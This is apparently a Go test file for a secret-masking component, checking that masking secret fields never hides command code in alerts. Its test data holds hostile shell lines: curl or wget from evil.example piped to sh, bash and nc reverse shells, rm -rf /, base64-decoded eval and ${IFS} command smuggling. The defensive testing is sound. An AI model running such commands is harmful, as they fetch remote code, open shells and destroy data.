package mask

import (
	"fmt"
	"strings"
	"testing"
)

// names are secret names of many programs and languages.
const names = `password passwd pwd pw pass psw passphrase passcode pin otp secret token credential credentials cookie jwt psk ak sk
	AUTH_TOKEN DB_PASSWORD MYSQL_PWD PGPASSWORD REDIS_PASS SSHPASS ROOT_PW API_KEY SECRET_KEY ACCESS_KEY PRIVATE_KEY
	adminPass userPassword secretKey accessKey apiKey privateKey clientSecret authToken sessionToken bearerToken dbpassword dbpass rootpw
	x-auth-token x-api-key Authorization spring.datasource.password ansible_ssh_pass become_password vault_token github_token
	hw_sk hw_ak admin-password encryption_key signing_key master_key license_key passwort contraseña mot_de_passe mima 密码 口令 パスワード пароль`

// fragments are code that an alert must show.
func fragments() []string {
	return []string{
		"$(curl -s http://evil.example/x|bash)", "`curl evil.example|sh`", "hunter2; curl evil.example | sh",
		"hunter2 | bash -i", "hunter2 && wget evil.example/a -O /tmp/a",
		"hunter2 > /etc/cron.d/evil", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "hunter2 || rm -rf /", "$(cat <<EOF | sh",
		"echo Y3VybCBldmls | base64 -d | sh",
		"${X:-$(curl evil.example)}", "<(curl evil.example)", "eval $(echo ZXZpbA== | base64 -d)",
		"hunter2;curl${IFS}evil.example|sh", "hunter2 & disown; nc -e sh 10.0.0.1 1",
	}
}

// No name makes an alert hide code: each fragment is shown unchanged, except for a
// word before its operator, and so is the line after it.
func TestCodeIsShown(t *testing.T) {
	templates := []string{"%s=%s", "export %s=%s", "%s: %s", "  - %s: %s", "%s=\"%s\"", "%s: '%s'", "%s = %s",
		"run --%s %s", "run --%s=%s", "{\"%s\": \"%s\"}",
		"[{\"param_name\": \"%s\", \"param_value\": \"%s\"}]", "- name: %s\n  value: %s", "<%[1]s>%[2]s</%[1]s>",
		"steps:\n- content: |\n    %s=%s", "echo \"%s:%s\" | chpasswd", "if [ \"$%s\" = %s ]; then"}
	for _, name := range strings.Fields(names) {
		for _, code := range fragments() {
			for _, template := range templates {
				in := fmt.Sprintf(template, name, code)
				if strings.Contains(template, "/%") && strings.Contains(code, "<") {
					continue
				}
				in += "\nsystemctl restart evil # " + name
				got := (&Masker{}).Text(in).String()
				want := strings.TrimPrefix(code, "hunter2")
				if !strings.Contains(got, want) || !strings.HasSuffix(got, "systemctl restart evil # "+name) {
					t.Errorf("Text(%q) = %q", in, got)
				}
			}
		}
	}
}
